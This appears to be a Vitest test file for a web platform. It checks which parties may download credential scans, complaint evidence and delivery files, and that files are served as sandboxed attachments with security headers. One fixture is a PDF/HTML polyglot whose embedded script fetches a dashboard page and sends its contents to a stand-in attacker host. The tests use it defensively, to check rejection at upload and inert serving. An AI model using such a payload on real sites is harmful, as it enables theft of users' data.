import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";

// A private uploads directory for this file, set before any module reads it.
const { uploads } = await vi.hoisted(async () => {
  const { mkdtempSync } = await import("node:fs");
  const { tmpdir } = await import("node:os");
  const path = await import("node:path");
  const dir = mkdtempSync(path.join(tmpdir(), "zj-document-access-"));
  process.env.UPLOADS_DIR = dir;
  return { uploads: dir };
});

import { randomBytes } from "node:crypto";
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import path from "node:path";
import express from "express";
import { getDb, type Db } from "~/db/client.server";
import { DomainError, FieldErrors } from "~/lib/errors";
import type { SessionUser } from "~/lib/session.server";
import { loader as documentLoader } from "~/routes/documents.$id";
import { loader as deliveryFileLoader } from "~/routes/requests.$id.deliveries.$deliveryId.file";
import { storagePath, storeUpload } from "~/services/documents/documents.server";
import { deliverResult } from "~/services/requests/award.server";
import { fileComplaint } from "~/services/supervision/cases.server";
import { HSTS, securityHeaders, wantsHsts } from "../../scripts/security-headers.mjs";
import { seedCatalogue } from "../../seeds/seed";
import { regulatorUser } from "../support/cases";
import { createUser } from "../support/factories";
import { getRequest, outcome, routeArgs, sessionCookie } from "../support/http";
import { inServiceRequest } from "../support/ratings";
import { enterpriseUser, sessionUserOf } from "../support/requests";

/**
 * Who may read which stored file (least privilege, see
 * app/services/documents/access.server.ts), and how every file is served:
 * a sandboxed download, never a page of our origin.
 */

const PDF = (text: string) => new TextEncoder().encode(`%PDF-1.4\n% ${text}\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n`);
const POLYGLOT = new TextEncoder().encode(
  "%PDF-1.4\n<html><body><script>fetch('/dashboard').then(r=>r.text()).then(t=>location='https://evil.example/?'+t)</script></body></html>\n%%EOF\n",
);

type Party = "anonymous" | "agencyOwner" | "otherAgency" | "enterprise" | "otherEnterprise" | "regulator" | "admin";
const PARTIES: Party[] = ["anonymous", "agencyOwner", "otherAgency", "enterprise", "otherEnterprise", "regulator", "admin"];

let db: Db;
const cookies: Partial<Record<Party, string>> = {};
let credentialDocId: string;
let evidenceDocId: string;
let deliveryDocId: string;
let delivery: { requestId: string; deliveryId: string };

beforeAll(async () => {
  db = await getDb();
  await seedCatalogue(db);
  // Agency 0 wins the request of `enterprise`; agency 1 bid and lost.
  const served = await inServiceRequest(db);
  const winner = served.winner.user;
  const enterprise = served.owner;
  const otherAgency = served.agencies[1]!.user;
  const regulator = await regulatorUser(db);
  const otherEnterprise = await enterpriseUser(db);
  const admin = sessionUserOf(await createUser(db, "ADMIN"));
  const users: Record<Exclude<Party, "anonymous">, SessionUser> = {
    agencyOwner: winner,
    otherAgency,
    enterprise,
    otherEnterprise,
    regulator,
    admin,
  };
  for (const [party, user] of Object.entries(users)) cookies[party as Party] = await sessionCookie(user.id);

  // The winner's credential scan, the enterprise's complaint evidence against the winner, the winner's delivery.
  credentialDocId = (
    await storeUpload(db, {
      file: new File([PDF("资质证书")], "资质证书（正本）.pdf"),
      ownerOrgId: winner.organizationId!,
      kind: "CREDENTIAL",
      uploadedById: winner.id,
    })
  ).id;
  const filed = await fileComplaint(db, enterprise, {
    agencyId: served.winner.agencyId,
    subject: "出具报告与实际不符",
    description: "该机构出具的勘测报告数据与现场明显不符，详见附件。",
    files: [new File([PDF("投诉证据")], "王举报-收据.pdf")],
  });
  evidenceDocId = (await db.supervisionCase.findUniqueOrThrow({ where: { id: filed.id } })).evidenceDocIds[0]!;
  await deliverResult(db, winner, served.id, { file: new File([PDF("成果报告")], "成果报告.pdf"), note: "成果报告" });
  const d = await db.delivery.findFirstOrThrow({ where: { requestId: served.id } });
  deliveryDocId = d.documentId!;
  delivery = { requestId: served.id, deliveryId: d.id };
});

afterAll(() => rmSync(uploads, { recursive: true, force: true }));

const getDoc = (id: string, party: Party) =>
  outcome(() => documentLoader(routeArgs(getRequest(`/documents/${id}`, cookies[party]), { id })));
const getDelivery = (party: Party) =>
  outcome(() =>
    deliveryFileLoader(
      routeArgs(getRequest(`/requests/${delivery.requestId}/deliveries/${delivery.deliveryId}/file`, cookies[party]), {
        id: delivery.requestId,
        deliveryId: delivery.deliveryId,
      }),
    ),
  );

/** 200 with the file name the party sees, 302 (to login) or the refusal status. */
async function seen(o: Awaited<ReturnType<typeof getDoc>>): Promise<string> {
  if (o.status === 302) return o.location!.startsWith("/login?redirectTo=") ? "login" : `302 ${o.location}`;
  if (o.status !== 200) {
    await o.response?.text();
    return String(o.status);
  }
  const disposition = o.response!.headers.get("Content-Disposition")!;
  await o.response!.arrayBuffer();
  return decodeURIComponent(disposition.split("filename*=UTF-8''")[1]!);
}

describe("who may read each kind of document (kind × party)", () => {
  const MATRIX: Record<string, Record<Party, string>> = {
    credential: {
      anonymous: "login",
      agencyOwner: "资质证书（正本）.pdf",
      otherAgency: "403",
      enterprise: "403",
      otherEnterprise: "403",
      regulator: "资质证书（正本）.pdf",
      admin: "403",
    },
    // The agency complained about sees the evidence under a neutral name: the file name may identify the complainant.
    evidence: {
      anonymous: "login",
      agencyOwner: "evidence.pdf",
      otherAgency: "403",
      enterprise: "王举报-收据.pdf",
      otherEnterprise: "403",
      regulator: "王举报-收据.pdf",
      admin: "403",
    },
    delivery: {
      anonymous: "login",
      agencyOwner: "成果报告.pdf",
      otherAgency: "403",
      enterprise: "成果报告.pdf",
      otherEnterprise: "403",
      regulator: "成果报告.pdf",
      admin: "403",
    },
  };

  it.each(Object.keys(MATRIX))("%s through /documents/:id", async (kind) => {
    const id = { credential: credentialDocId, evidence: evidenceDocId, delivery: deliveryDocId }[kind]!;
    const got: Record<string, string> = {};
    for (const party of PARTIES) got[party] = await seen(await getDoc(id, party));
    expect(got).toEqual(MATRIX[kind]);
  });

  it("delivery through /requests/:id/deliveries/:deliveryId/file: the same parties", async () => {
    const got: Record<string, string> = {};
    for (const party of PARTIES) got[party] = await seen(await getDelivery(party));
    expect(got).toEqual(MATRIX.delivery);
  });

  it("a delivery file is not reachable as another request's delivery", async () => {
    const other = await outcome(() =>
      deliveryFileLoader(
        routeArgs(getRequest(`/requests/${delivery.deliveryId}/deliveries/${delivery.deliveryId}/file`, cookies.regulator), {
          id: delivery.deliveryId,
          deliveryId: delivery.deliveryId,
        }),
      ),
    );
    expect(other.status).toBe(404);
  });
});

describe("how a stored file is served", () => {
  it("as a sandboxed, uncached attachment with an RFC 5987 name and no second nosniff", async () => {
    for (const o of [await getDoc(credentialDocId, "agencyOwner"), await getDelivery("enterprise")]) {
      const h = o.response!.headers;
      expect(h.get("Content-Type")).toBe("application/pdf");
      expect(h.get("Content-Disposition")).toMatch(/^attachment; filename="[\x20-\x7e]*"; filename\*=UTF-8''[A-Za-z0-9%._~-]+$/);
      expect(h.get("Content-Security-Policy")).toBe("sandbox; default-src 'none'");
      expect(h.get("Cache-Control")).toBe("private, no-store");
      // The server sends nosniff on every response; a route copy would be appended as a second header.
      expect(h.get("X-Content-Type-Options")).toBeNull();
      await o.response!.arrayBuffer();
    }
    const credential = await getDoc(credentialDocId, "agencyOwner");
    expect(credential.response!.headers.get("Content-Disposition")).toBe(
      `attachment; filename="________.pdf"; filename*=UTF-8''${encodeURIComponent("资质证书（正本）.pdf").replace(/[()]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`)}`,
    );
    await credential.response!.arrayBuffer();
  });

  it("refuses a %PDF- file that carries HTML and script at upload, in every upload path", async () => {
    const owner = await db.organization.findFirstOrThrow({ where: { kind: "AGENCY" } });
    const err = await storeUpload(db, { file: new File([POLYGLOT], "report.pdf"), ownerOrgId: owner.id, kind: "CREDENTIAL" }).catch(
      (e: unknown) => e,
    );
    expect(err).toBeInstanceOf(DomainError);
    expect(err).toMatchObject({
      code: "FILE_ACTIVE_CONTENT",
      status: 415,
      message: "agencyProfile.errors.fileActiveContent",
      field: "document",
    });
    expect(await db.document.count({ where: { originalName: "report.pdf" } })).toBe(0);

    const enterprise = await enterpriseUser(db);
    const agency = await db.agency.findFirstOrThrow({ where: { status: "LISTED" } });
    const complaint = await fileComplaint(db, enterprise, {
      agencyId: agency.id,
      subject: "投诉",
      description: "见附件",
      files: [new File([POLYGLOT], "证据.pdf")],
    }).catch((e: unknown) => e);
    expect(complaint).toBeInstanceOf(FieldErrors);
    expect((complaint as FieldErrors).fields.evidence).toEqual(["agencyProfile.errors.fileActiveContent"]);
  });

  it("serves a polyglot stored before the check as an inert, sandboxed download", async () => {
    const owner = await db.user.findFirstOrThrow({ where: { role: "AGENCY" } });
    const key = randomBytes(16).toString("hex");
    mkdirSync(path.dirname(storagePath(key)), { recursive: true });
    writeFileSync(storagePath(key), POLYGLOT);
    const doc = await db.document.create({
      data: {
        ownerOrgId: owner.organizationId!,
        kind: "CREDENTIAL",
        storageKey: key,
        mime: "application/pdf",
        size: POLYGLOT.length,
        originalName: "x.html",
        sha256: "0".repeat(64),
      },
    });
    const o = await getDoc(doc.id, "regulator");
    expect(o.status).toBe(200);
    expect(o.response!.headers.get("Content-Type")).toBe("application/pdf");
    expect(o.response!.headers.get("Content-Disposition")).toMatch(/^attachment;/);
    expect(o.response!.headers.get("Content-Security-Policy")).toMatch(/^sandbox\b/);
    await o.response!.arrayBuffer();
  });
});

describe("server-wide security headers (scripts/security-headers.mjs)", () => {
  /** The production middleware, then a route response copied the way @react-router/express does (res.append per header). */
  async function headersThrough(env: Record<string, string | undefined>): Promise<Headers> {
    const app = express();
    app.use(securityHeaders(env));
    app.get("/file", async (_req, res) => {
      const o = await getDoc(credentialDocId, "agencyOwner");
      res.status(o.status);
      for (const [k, v] of o.response!.headers.entries()) res.append(k, v);
      res.end(Buffer.from(await o.response!.arrayBuffer()));
    });
    const server = app.listen(0, "127.0.0.1");
    await new Promise((r) => server.once("listening", r));
    try {
      const { port } = server.address() as { port: number };
      const res = await fetch(`http://127.0.0.1:${port}/file`);
      await res.arrayBuffer();
      return res.headers;
    } finally {
      await new Promise((r) => server.close(r));
    }
  }

  it("sends nosniff exactly once on a file download, and HSTS in production", async () => {
    const h = await headersThrough({ NODE_ENV: "production" });
    expect(h.get("X-Content-Type-Options")).toBe("nosniff"); // fetch joins repeats with ", "
    expect(h.get("Strict-Transport-Security")).toBe("max-age=31536000; includeSubDomains");
    expect(h.get("Content-Security-Policy")).toBe("sandbox; default-src 'none'");
  });

  it("sends no HSTS on the plain-HTTP LAN demo (INSECURE_COOKIES=1) nor outside production", async () => {
    expect((await headersThrough({ NODE_ENV: "production", INSECURE_COOKIES: "1" })).get("Strict-Transport-Security")).toBeNull();
    expect((await headersThrough({ NODE_ENV: "development" })).get("Strict-Transport-Security")).toBeNull();
  });

  it.each([
    [{ NODE_ENV: "production" }, true],
    [{ NODE_ENV: "production", INSECURE_COOKIES: "1" }, false],
    [{ NODE_ENV: "production", INSECURE_COOKIES: "0" }, true],
    [{ NODE_ENV: "test" }, false],
    [{}, false],
  ])("wantsHsts(%j) = %s", (env, expected) => {
    expect(wantsHsts(env)).toBe(expected);
    expect(HSTS).toBe("max-age=31536000; includeSubDomains");
  });
});
